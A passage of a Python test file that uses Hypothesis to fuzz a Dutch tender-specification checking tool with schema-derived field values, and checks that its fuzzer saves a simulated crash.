    schemas: Schemas, path: tuple[str, ...] = (), depth: int = 0
) -> st.SearchStrategy[Any]:
    """A group as the schema has it, each field right, wrong or left out."""
    fields: dict[str, st.SearchStrategy[Any]] = {}
    for key in schemas.keys("aanbesteding", path):
        inner = (*path, key)
        about = schemas.meta("aanbesteding", inner)
        own: st.SearchStrategy[Any] = _values()
        if about.toegestaan:
            own = st.sampled_from(about.toegestaan) | own
        if about.type in ("groep", "lijst") and depth < 2 and schemas.keys("aanbesteding", inner):
            group = st.deferred(lambda p=inner: _from_schema(schemas, p, depth + 1))
            own = st.lists(group, max_size=2) if about.type == "lijst" else group
        fields[key] = own
    return st.fixed_dictionaries({}, optional=fields)


def _yaml(value: Any) -> str:
    """Flow style, so that any value fits behind a key."""
    return json.dumps(value, ensure_ascii=False) if not isinstance(value, str) else value


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_no_spec_breaks_the_program(
    bouwplaats: Path, schemas: Schemas, data: st.DataObject
) -> None:
    """Specs made from the schema, put in the place of good fields: problems, never a fault."""
    root = bouwplaats.parent / "eigenschap"
    if not root.exists():
        shutil.copytree(bouwplaats, root)
    huis = Huis(root, schemas)
    drawn = data.draw(_from_schema(schemas))
    few = data.draw(st.sets(st.sampled_from(sorted(drawn) or ["naam"]), max_size=4))
    changes = {key: _yaml(drawn[key]) for key in few if key in drawn}
    huis.project.spec(TENDER).write_bytes(spec_text(**changes).encode("utf-8", "surrogatepass"))
    _, found = pipeline.dossier(huis.house, TENDER, None)
    for one in found:
        assert isinstance(one, Problem) and problems.format_line(one)
    assert huis.bestek("check", TENDER) in (0, 1)


def test_the_fuzzer_finds_a_fault_and_keeps_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: Callable[[], str]
) -> None:
    def broken(*_: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(fuzz, "ROOT", tmp_path)
    monkeypatch.setattr(fuzz, "SAVED", tmp_path / "output")
    for part in ("schemas", "templates", "tender_specs"):
        (tmp_path / part).symlink_to(ROOT / part)
    monkeypatch.setattr(pipeline, "open_house", broken)
    assert fuzz.run(20, 1) == 1
    assert "ZeroDivisionError" in said()
    assert "opdracht: bestek" in next((tmp_path / "output").rglob("geval.txt")).read_text()
